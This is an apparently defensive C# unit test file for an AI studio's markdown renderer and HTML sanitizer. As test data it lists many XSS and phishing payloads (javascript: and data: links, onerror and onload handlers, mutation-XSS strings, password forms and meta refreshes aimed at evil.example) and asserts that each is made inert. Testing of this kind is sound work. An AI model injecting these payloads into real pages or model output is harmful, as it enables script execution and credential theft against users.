using AiStudio.Web.Infrastructure;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace AiStudio.Tests.Security;

/// <summary>
/// Model output is rendered through markdown and then sanitized. Each attack, written as markdown a model could return
/// and as HTML that reaches the sanitizer directly (its second layer), comes out inert.
/// </summary>
public sealed class MarkdownSanitizingTests
{
    private static readonly string[] ForbiddenTags =
        ["script", "style", "iframe", "frame", "object", "embed", "form", "button", "textarea", "select", "base", "meta", "link", "svg", "math"];

    private readonly MarkdownRenderer _renderer = new();

    public static TheoryData<string, string> MarkdownAttacks => new()
    {
        { "javascript link", "[invoice](javascript:alert(1))" },
        { "mixed-case javascript link", "[invoice](JaVaScRiPt:alert(1))" },
        { "entity-encoded javascript link", "[invoice](jav&#x61;script:alert(1))" },
        { "vbscript link", "[invoice](vbscript:msgbox(1))" },
        { "data: html link", "[invoice](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
        { "javascript autolink", "<javascript:alert(1)>" },
        { "javascript reference link", "[invoice][r]\n\n[r]: javascript:alert(1)" },
        { "javascript image", "![chart](javascript:alert(1))" },
        { "data: svg image", "![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)" },
        { "event handler by generic attributes", "[invoice](https://example.com){onclick=\"alert(1)\"}" },
        { "overlay style by generic attributes", "# Title {style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999\"}" },
        { "overlay classes by generic attributes", "Pay here {.fixed-top .vh-100 .w-100 .mud-overlay .position-fixed}" },
        { "id that shadows the app's element", "# Circuit state {#circuit-state}" },
        { "raw script", "<script>alert(1)</script>" },
        { "raw image with onerror", "<img src=x onerror=alert(1)>" },
        { "raw iframe", "<iframe src=\"https://evil.example\"></iframe>" },
        { "raw overlay div", "<div style=\"position:absolute;z-index:9999;inset:0\">Sign in again</div>" },
        { "raw form", "<form action=\"https://evil.example\"><input name=\"password\"><button>Go</button></form>" },
        { "raw style element", "<style>body { display: none }</style>" },
        { "raw base and meta refresh", "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">" },
        { "media link becomes an iframe", "![video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)" },
    };

    public static TheoryData<string, string> HtmlAttacks => new()
    {
        { "javascript link", "<a href=\"javascript:alert(1)\">x</a>" },
        { "vbscript link", "<a href=\"vbscript:msgbox(1)\">x</a>" },
        { "data: html link", "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>" },
        { "image onerror", "<img src=\"x\" onerror=\"alert(1)\">" },
        { "data: image", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "onclick", "<p onclick=\"alert(1)\" onmouseover=\"alert(2)\">x</p>" },
        { "iframe", "<iframe src=\"https://evil.example\"></iframe><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>" },
        { "object and embed", "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">" },
        { "form", "<form action=\"https://evil.example\"><input type=\"password\" name=\"p\"><button formaction=\"https://evil.example\">Go</button><textarea></textarea><select></select></form>" },
        { "overlay style attribute", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:white\">Session expired</div>" },
        { "huge sizes", "<img src=\"https://example.com/a.png\" style=\"width:10000px;height:10000px\">" },
        { "style element", "<style>@import url(https://evil.example/x.css); body { display: none }</style>" },
        { "base", "<base href=\"https://evil.example/\">" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">" },
        { "link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">" },
        { "svg onload", "<svg onload=\"alert(1)\"><script>alert(2)</script></svg>" },
        { "math mtext script", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
        { "app classes", "<p class=\"fixed-top vh-100 mud-overlay\">x</p>" },
        { "id and name", "<p id=\"circuit-state\">x</p><img name=\"body\" src=\"https://example.com/a.png\">" },
        { "text input", "<input type=\"text\" autofocus onfocus=\"alert(1)\">" },
    };

    [Theory]
    [MemberData(nameof(MarkdownAttacks))]
    public void Render_MarkdownAttack_Inert(string attack, string markdown) =>
        AssertInert(attack, _renderer.Render(markdown).Value);

    [Theory]
    [MemberData(nameof(HtmlAttacks))]
    public void Sanitize_HtmlAttack_Inert(string attack, string html) =>
        AssertInert(attack, _renderer.Sanitize(html));

    [Fact]
    public void Render_OrdinaryMarkdown_KeepsItsStructureAndSafeLinks()
    {
        var html = _renderer.Render("""
            # Plan

            1. **Send** reminders, see [the docs](https://example.com/docs) or <mailto:team@example.com>.

            | Step | Owner |
            |------|-------|
            | one  | Ana   |

            - [x] done
            - [ ] todo

            ```csharp
            var due = invoice.Due.AddDays(-7);
            ```
            """).Value;
        var document = Parse(html);

        Assert.Equal("Plan", document.QuerySelector("h1")!.TextContent);
        Assert.NotNull(document.QuerySelector("ol li strong"));
        var link = document.QuerySelector("a[href='https://example.com/docs']")!;
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Contains("noopener", link.GetAttribute("rel"));
        Assert.NotNull(document.QuerySelector("a[href='mailto:team@example.com']"));
        Assert.NotNull(document.QuerySelector("table td"));
        Assert.Equal(2, document.QuerySelectorAll("input[type=checkbox][disabled]").Length);
        Assert.Equal("language-csharp", document.QuerySelector("pre code")!.GetAttribute("class"));
    }

    private static void AssertInert(string attack, string html)
    {
        var document = Parse(html);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.False(ForbiddenTags.Contains(element.LocalName), $"{attack}: <{element.LocalName}> kept in {html}");
            if (element.LocalName == "input")
            {
                Assert.True(element.GetAttribute("type") == "checkbox" && element.HasAttribute("disabled"), $"{attack}: an input other than a disabled checkbox kept in {html}");
            }

            foreach (var attribute in element.Attributes)
            {
                var name = attribute.Name.ToLowerInvariant();
                Assert.False(name.StartsWith("on", StringComparison.Ordinal), $"{attack}: {name} kept in {html}");
                Assert.False(name is "style" or "id" or "name" or "srcdoc" or "formaction" or "action", $"{attack}: {name} kept in {html}");
                if (name == "class")
                {
                    Assert.All(attribute.Value.Split(' ', StringSplitOptions.RemoveEmptyEntries), c => Assert.StartsWith("language-", c));
                }

                if (name is "href" or "src")
                {
                    var value = attribute.Value.Trim();
                    var scheme = value.Contains(':') ? value[..value.IndexOf(':')].ToLowerInvariant() : "";
                    Assert.True(scheme is "" or "http" or "https" or "mailto", $"{attack}: {name}=\"{value}\" kept in {html}");
                }
            }
        }
    }

    private static IDocument Parse(string html) => new HtmlParser().ParseDocument($"<!DOCTYPE html><html><body>{html}</body></html>");
}
